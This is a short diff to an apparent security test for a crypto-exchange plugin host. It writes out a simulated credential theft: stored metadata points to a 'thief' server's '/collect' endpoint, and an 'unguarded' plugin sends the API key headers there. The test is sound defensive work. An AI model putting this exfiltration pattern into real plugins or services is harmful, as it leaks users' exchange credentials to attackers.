@@ -160,7 +160,7 @@ class TestInside:
             await call.http.get(call.credential.metadata["url"], headers=KEY)
             return holding(("BTC", "1"))
 
-        plugin = ScriptedPlugin(exchange_at(venue.url), answer=unguarded)
+        plugin = ScriptedPlugin(exchange_at("https://venue.example"), answer=unguarded)
         async with serving(tmp_path, registry=registry_of(plugin), venue_urls={"venue": venue.url}) as running:
             await running.store("venue", metadata={"url": f"{thief.url}/collect"})
             await running.client.get_balance("alice", "venue")
